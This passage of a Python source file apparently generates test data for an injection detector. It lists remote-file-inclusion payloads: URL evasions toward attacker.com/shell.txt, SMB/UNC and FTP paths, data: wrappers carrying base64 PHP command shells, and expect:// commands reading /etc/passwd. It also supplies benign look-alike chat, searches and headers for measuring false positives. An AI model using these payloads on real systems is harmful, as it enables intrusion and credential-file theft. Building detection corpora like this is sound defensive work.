    "\\\\attacker.com/shell.txt",
    "/\\attacker.com/shell.txt",
    "http:attacker.com/shell.txt",
    "http:/attacker.com/shell.txt",
    "https:///attacker.com/shell.txt",
    "http://attacker.com:80@victim.com/shell.txt",
    "http://attacker.com/shell.txt?victim.com",
    "http://attacker.com/?q=victim.com/index.php",
    "http://xn--vctim-2ra.com/shell.txt",
    "http://attacker.com.//shell.txt",
    "http://attacker.com./shell.txt",
    "http://ATTACKER.COM/Shell.txt",
    "http://evil.com/redirect?to=http://attacker.com/shell.txt",
    "http://0x7f.attacker.com/shell.txt",
    "http://attacker.com%00.victim.com/shell.txt",
    "http://attacker.com\x00.victim.com/shell.txt",
    "http://a.b.c.d.attacker.com/shell.txt",
    "http://victim.com.evil.io/shell.txt",
    "http://localtest.me.attacker.com/shell.txt",
    "http://attacker.com;victim.com/shell.txt",
    "http://attacker.com?.victim.com/shell.txt",
    "http://attacker.com&@victim.com#@google.com/shell.txt",
    "http://attacker.com/%2e%2e/shell.txt",
]

# protocols: the "not only http://" chapter: FTP and SMB/UNC (Windows includes UNC paths even with
# allow_url_include=Off), data: and expect: wrappers, the Java URL handlers (jar:, netdoc:); target PHP include()
# on Linux and Windows, Java URL-based template loaders
PROTOCOLS: list[Entry] = [
    "ftp://10.10.14.3/shell.txt",
    "ftp://anonymous:anonymous@10.10.14.3/shell.txt",
    "ftp://attacker.com/pub/cmd.php",
    "ftps://attacker.com/shell.txt",
    "smb://10.10.14.3/share/shell.php",
    "\\\\10.10.14.3\\share\\shell.php",
    "\\\\attacker.com\\public\\cmd.php",
    "//10.10.14.3/share/shell.php",
    "\\\\10.10.14.3@8080\\DavWWWRoot\\shell.php",
    "file://10.10.14.3/share/shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=",
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "DaTa://text/plain,<?php echo shell_exec('whoami');?>",
    "expect://id",
    "expect://ls%20-la",
    "expect://cat /etc/passwd",
    "expect://whoami",
    "ftp://10.10.14.3:2121/pub/shell.txt",
    "\\\\10.10.14.3\\share\\shell.txt",
    "sftp://10.10.14.3:22/shell.txt",
    "ssh2.exec://user:pass@10.10.14.3:22/id",
    "smb://attacker.com/public/cmd.txt",
    "jar:http://attacker.com/evil.jar!/shell.jsp",
    "netdoc:///etc/passwd",
    "tftp://10.10.14.3/shell.txt",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "ftp://user:secret@attacker.com:21/www/backdoor.txt",
    "https://attacker.com/shell.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_SEP),
    ("rce", "unix-shell-expression-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WIN_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_NAMES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    names = ["q", "id", "name"]
    names_by_category: dict[str, Sequence[str]] = {
        "rce": ["host", "ip", "cmd", "domain", "target", "filename", "ping", "addr", "q"],
        "lfi": ["file", "page", "path", "doc", "lang", "view", "download", "template", "filename"],
        "rfi": ["page", "url", "include", "file", "template", "path", "src", "module", "load"],
    }
    include_names = ["page", "file", "template", "include", "path", "inc", "lang", "module"]
    header_real = ("header:User-Agent", "header:Referer", "header:X-Api-Version", "cookie")
    header_rs = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie")
    path_forbids = "/?#"
    raw_body_forbids = "&"
    xml_controls = "\n\t\r"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":   # mod_cgi exports headers and cookies as environment variables
            return self.header_real, self.header_rs
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":
            return self.include_names[k % len(self.include_names)]
        names = self.names_by_category.get(category, self.names)
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":
            return self.include_names[(k + 3) % len(self.include_names)]
        return super().rs_name(category, sub, k)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about courses, certifications and study groups,
# code review about sanitising input, quoted errors, searches, links to course and documentation pages, profiles,
# course-material file names, ordinary headers)
CHAT = [
    # study groups and exams
    "OSCP exam booked for March 14th, anyone else in the study group taking it this spring?",
    "study group tonight 19:00: chapter 9 of the web app hacker's handbook, command injection and file inclusion",
    "passed the eJPT today! the web section was mostly directory traversal and a bit of command injection",
    "is the CEH practical worth it or should I go straight for OSCP? asking for the training budget",
    "PortSwigger Academy path traversal labs done, 6 of 6, the last one with the nested sequences was tricky",
    "the SANS SEC542 course has a full day on injection, the manager approved two seats for Q3",
    "Security+ voucher codes are in the shared drive, one per person, expiry end of June",
    "who has the slides from the secure coding workshop? the part about shell=True in subprocess",
    "I keep confusing LFI and RFI, is RFI only when allow_url_include is on?",
    "question for the trainers: does shellshock still show up in exams or is it just history now?",
    "the HTB academy module on file inclusion has a skills assessment at the end, took me about 3 hours",
    "TryHackMe streak at 40 days, the command injection room was a good intro for the new hires",
    "reminder: labs are only against the lab network, never against our staging or prod hosts",
    "can we get a group discount for the OSWE course? three of us want it next year",
    "notes from the workshop: reverse shells, why egress filtering matters, and how to detect them in EDR",
    "the university course assignment this week is to write a report on the 2014 bash vulnerability",
    "next study session is on Windows privilege escalation, bring your PowerShell notes",
    "my exam tip: read the whole question before touching the terminal, the web box was a trick",
    "GWAPT results came in, passed with 88%, thanks everyone for the mock exams",
    "has anyone done the GIAC GPEN? trying to decide between that and PNPT",
    "the conference workshop on path traversal in Java apps was excellent, recording is up next week",
    "I'm running the OWASP Top 10 lunch and learn on Thursday, topic is injection and SSRF",
    "book club picked 'The Tangled Web' for next month, chapter on URL parsing looks relevant",
    "our intern asked what a null byte is, I pointed her to the C strings chapter first",
    "the course recommends a VM for labs, please don't install the tools on your work laptop",
    "lab environment resets every night at 02:00 UTC so save your notes outside the VM",
    "the exam proctor needs a webcam and a clear desk, check the requirements email",
    "study plan: week 1 web fundamentals, week 2 injection, week 3 file inclusion, week 4 practice exam",
    # code review and engineering chat
    "review comment: please pass the host as a list to subprocess.run instead of building a shell string",
    "nit: use shlex.quote on the filename, or better, avoid the shell entirely",
    "we should sanitise the file name before joining it with the upload directory, see os.path.realpath",
    "the export endpoint resolves the path and checks it stays under EXPORT_DIR, looks good to me",
    "LGTM, but add a test that a filename with ../ in it is rejected with 400",
    "why does the template loader accept absolute paths? we only ever load from templates/",
    "the PHP service still has allow_url_include set to Off, confirmed in php.ini on all hosts",
    "heads-up: the health check script pipes curl into jq, not into sh, so we're fine",
    "the deploy script uses wget to fetch the release tarball and checks the sha256",
    "the cron job writes to /var/log/directory-sync.log, rotate it weekly please",
    "who owns the .env on the build box? it should be readable only by the deploy user",
    "quick reminder that id_rsa files never go in the repo, use the secrets manager",
    "bash 5.2 on the new base image, the old one was still on 4.4",
    "PowerShell 7 is now the default on the Windows runners, scripts should still work",
    "we disabled the CGI module on the old Apache box, nothing used it",
    "the backup job produces users.sql.gz nightly, the restore drill is next Tuesday",
    "don't keep config.php.bak files on the web servers, the scanner flagged one last quarter",
    "the web.config transform for staging is in the release pipeline now",
    "netcat is not installed on the app images, we use the debug sidecar for that",
    "the win.ini question in the support queue was about an old desktop app, not us",
    # quoted errors
    "getting FileNotFoundError: [Errno 2] No such file or directory: 'reports/2024-06.csv' on the export job",
    "bash: line 1: syntax error near unexpected token `(' when I run the migration script, any idea?",
    "'powershell' is not recognized as an internal or external command, guess the PATH is wrong on that runner",
    "PHP Warning: include(header.php): Failed to open stream: No such file or directory in /app/index.php",
    "curl: (6) Could not resolve host: artifacts.internal, the VPN dropped again",
    "Permission denied (publickey) when cloning, my ssh key expired",
    "nginx says 403 Forbidden for the docs folder, the index file is missing",
    # support and product
    "customer asks if the directory can import users from a CSV named 'staff (final).csv', it can",
    "user reports their bio got cut at 280 characters, that's the limit",
    "the search for 'ping' returns the network team, working as intended",
    "someone searched for 'shell' in the directory, it's the Shell Energy partnership account",
    # bios
    "Security trainer. I teach the web application testing course and run the injection labs.",
    "OSCP, OSWE, eJPT. Penetration tester focused on web apps and Active Directory.",
    "CS student, security club lead. Currently studying for Security+ and building a home lab.",
    "Instructor for secure coding in Python and Go. Ask me about subprocess and path handling.",
    "Blue team analyst. I write detections for reverse shells and PowerShell abuse.",
    "CTF coach for the university team, web and forensics categories",
    "Studying for CEH. Coffee, flashcards, and way too many VMs.",
    "AppSec engineer. Code reviews, threat models, and the occasional lunch and learn.",
    "GIAC GWAPT certified. Curious about parsers and URL normalisation.",
    "Sysadmin turned security engineer. Bash, PowerShell, and log pipelines.",
]

SEARCHES = [
    "oscp", "ejpt", "ceh", "security+", "gwapt", "sans", "trainer", "instructor", "appsec", "pentest",
    "shell", "bash", "powershell", "ping", "curl", "wget", "netcat", "socat", "include", "file",
    "path", "template", "page", "module", "etc", "passwd", "windows", "win", "boot", "config",
    "backup", "log", "traversal", "injection", "php", "perl", "python", "ruby", "net user", "whoami",
]

URLS = [
    "https://portswigger.net/web-security/os-command-injection",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/"
    "07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/filesystem.configuration.php#ini.allow-url-include",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://docs.python.org/3/library/shlex.html#shlex.quote",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_execution_policies",
    "https://www.offsec.com/courses/pen-200/",
    "https://academy.hackthebox.com/module/details/23",
    "https://tryhackme.com/room/oscommandinjection",
    "https://www.sans.org/cyber-security-courses/web-app-penetration-testing-ethical-hacking/",
    "https://docs.example.com/training/secure-coding/file-handling#paths",
]

PROSE = [
    "OSCP study group - Thursday 19:00",
    "secure coding workshop attendees",
    "command injection lab, room 3",
    "path traversal training feedback",
    "file inclusion chapter reading list",
    "eJPT candidates spring cohort",
    "CEH practical voucher holders",
    "SANS SEC542 seats Q3",
    "PowerShell for admins course",
    "bash scripting 101 participants",
    "reverse shell detection workshop",
    "shellshock retrospective talk",
    "Shell Energy account managers",
    "ping pong tournament signups",
    "curl and wget office hours",
    "template owners for onboarding emails",
    "include me in the security newsletter",
    "page owners for the intranet",
    "module leads, autumn term",
    "backup and restore drill team",
    "log review rota",
    "config management guild",
    "windows desktop support",
    "boot camp graduates 2024",
    "people in Netcat Street office",
    "who am i on the org chart",
    "net users group organisers",
    "etc. (misc) distribution list",
    "Perl monks alumni",
    "Python study circle",
    "Ruby meetup hosts",
    "pipe band members",
    "semicolon-separated export of trainers",
    "file clerks, records office",
    "path finders hiking club",
    "remote workers, Lisbon",
    "data protection officer",
    "expect delays on the badge printer",
    "ftp migration owners",
    "traversal of the org tree for the audit",
]

PROFILES = [
    ("Ana Shell", "Rua do Ouro 21, Lisbon"),
    ("Mark Bash", "High St 5, Bath"),
    ("Priya Path", "Brigade Rd 40, Bengaluru"),
    ("Sam Include", "Kings Rd 2, Chelsea"),
    ("Curl & Co Hair Salon", "Market St 12, Manchester"),
    ("Ping Wei", "Nanjing Rd 300, Shanghai"),
    ("Tom Template", "Elm St 9, Springfield"),
    ("Page Turner Books", "Quay St 4, Galway"),
    ("Netcat Vet Clinic", "Oak Ave 17, Portland"),
    ("Windows & Doors Ltd", "Industrial Park 3, Leeds"),
    ("Boot Camp Fitness", "Harbour Rd 1, Cork"),
    ("Module Kitchens", "Via Roma 8, Turin"),
    ("Log Cabin Rentals", "Lake Rd 55, Whistler"),
    ("Config Consulting", "Tech Park 6, Eindhoven"),
    ("Expect More Events", "Main St 100, Austin"),
]

UPLOAD_NAMES = [
    "oscp-notes-file-inclusion.pdf", "command-injection-lab-handout.pdf", "path-traversal-slides.pptx",
    "secure-coding-week3.docx", "eJPT-study-plan.xlsx", "SEC542-day2-schedule.pdf", "shellshock-talk.key",
    "reverse-shell-detection-rules.yml", "powershell-for-admins.pdf", "bash-cheatsheet.png",
    "training-attendance (June).csv", "ceh-voucher-list.xlsx", "owasp-top10-2021.pdf",
    "lunch-and-learn-injection.mp4", "assignment-2-report.docx", "exam-results-Q2.xlsx",
    "users.sql.gz", "config-review-notes.md", "web.config-transform-notes.txt", "team photo.jpg",
    "O'Neill-certificate.pdf", "study-group-calendar.ics", "netcat-street-office-map.png",
    "gwapt-certificate.pdf", "workshop-feedback.csv",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2"),
    ("User-Agent", "Go-http-client/1.1"),
    ("Referer", "https://portswigger.net/web-security/os-command-injection"),
    ("Referer", "https://academy.hackthebox.com/module/details/23"),
    ("Referer", "https://www.offsec.com/courses/pen-200/"),
    ("Referer", "https://app.example.com/admin/users?q=trainer&page=2"),
    ("Referer", "https://www.google.com/search?q=oscp+study+group+schedule"),
    ("Referer", "https://docs.example.com/training/secure-coding/file-handling"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2e4f10-3a9b-4c5d-8e6f-1a2b3c4d5e6f"),
    ("Accept-Language", "en-US,en;q=0.9,pt;q=0.8"),
    ("Cookie", "session=abc123; last_search=oscp; tz=Europe%2FLisbon"),
    ("Cookie", "session=abc123; page_size=50; filter=team%3Asecurity"),
    ("If-None-Match", "W/\"7a1c-18d2f4e1\""),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
